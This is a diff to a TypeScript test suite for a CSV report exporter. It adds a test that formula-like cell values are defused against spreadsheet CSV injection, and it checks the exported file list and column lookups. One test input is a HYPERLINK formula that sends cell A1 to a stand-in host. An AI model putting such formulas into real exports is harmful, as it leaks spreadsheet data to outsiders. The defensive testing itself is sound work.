@@ -20,6 +20,17 @@ function allFiles(dir: string): string[] {
 }
 
 describe('CSV', () => {
+  it('neutralises text a spreadsheet would run as a formula (OWASP CSV injection), keeps numbers, reads back', () => {
+    const hostile = ['=HYPERLINK("http://x.example/?a="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1+1'];
+    for (const h of hostile) expect(csvField(h).replace(/^"/, '').startsWith("'")).toBe(true);
+    expect(csvField(-2.5)).toBe('-2.5');
+    expect(csvField('plain = fine')).toBe('plain = fine');
+    const text = toCsv({ name: 't', title: 'T', columns: [{ header: 'name', kind: 'text' }, { header: 'n', kind: 'num' }], rows: hostile.map((h, i) => [h, -i]) });
+    const back = parseCsv(text).slice(1);
+    expect(back.map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
+    expect(back.map((r) => r[1])).toEqual(hostile.map((_, i) => String(-i)));
+  });
+
   it('quotes commas, quotes, CR and LF per RFC 4180, CRLF line ends, BOM', () => {
     expect(csvField('plain')).toBe('plain');
     expect(csvField('a,b')).toBe('"a,b"');
@@ -36,15 +47,25 @@ describe('CSV', () => {
     const dir = path.join(out, 'csv');
     const { files } = await writeReport(db, { format: 'csv', out: dir });
     expect(files.map((f) => path.basename(f)).sort()).toEqual(
-      ['adoptions', 'deviations', 'hot_spots', 'integrity', 'runs', 'standards', 'stations', 'summary'].map((n) => `${n}.csv`),
+      [...['adoptions', 'deviations', 'hot_spots', 'integrity'].map((n) => `${n}.csv`), 'metadata.json', 'README.txt', ...['runs', 'standards', 'station_status', 'stations', 'summary'].map((n) => `${n}.csv`)].sort(),
     );
     const hot = parseCsv(readFileSync(path.join(dir, 'hot_spots.csv'), 'utf8'));
     expect(hot[0]).toContain('step text (hi)');
     expect(hot[1]?.[4]).toBe(HINDI_S1);
     const integ = parseCsv(readFileSync(path.join(dir, 'integrity.csv'), 'utf8'));
-    expect(integ[1]?.[9]).toBe(PROBLEM_MESSAGE);
+    expect(integ[1]?.[(integ[0] as string[]).indexOf('message')]).toBe(PROBLEM_MESSAGE);
+    expect(integ[1]?.[(integ[0] as string[]).indexOf('station name')]).toBe(STATION_B_NAME);
     const stations = parseCsv(readFileSync(path.join(dir, 'stations.csv'), 'utf8'));
     expect(stations.some((r) => r[2] === STATION_B_NAME)).toBe(true);
+    const dev = parseCsv(readFileSync(path.join(dir, 'deviations.csv'), 'utf8'));
+    const dh = dev[0] as string[];
+    const ool = dev.find((r) => r[dh.indexOf('kind')] === 'out-of-limits');
+    expect([ool?.[dh.indexOf('value')], ool?.[dh.indexOf('lower limit')], ool?.[dh.indexOf('upper limit')], ool?.[dh.indexOf('unit')], ool?.[dh.indexOf('reason')]]).toEqual(['7', '4', '6', 'mm', 'NO_GLUE']);
+    expect(ool?.[dh.indexOf('at (station local time)')]).toBe('2026-03-02 08:05:00');
+    const runs = parseCsv(readFileSync(path.join(dir, 'runs.csv'), 'utf8'));
+    const rh = runs[0] as string[];
+    const abandoned = runs.filter((r) => r[rh.indexOf('outcome')] === 'abandoned');
+    expect(abandoned.map((r) => [r[rh.indexOf('reason abandoned')], r[rh.indexOf('ended at (station local time)')], r[rh.indexOf('station name')]])).toEqual([['NO_GLUE', '2026-03-03 08:15:00', STATION_B_NAME]]);
     const summary = parseCsv(readFileSync(path.join(dir, 'summary.csv'), 'utf8'));
     const h = summary[0] as string[];
     expect(summary[1]?.[h.indexOf('on-time rate')]).toBe('0.5');
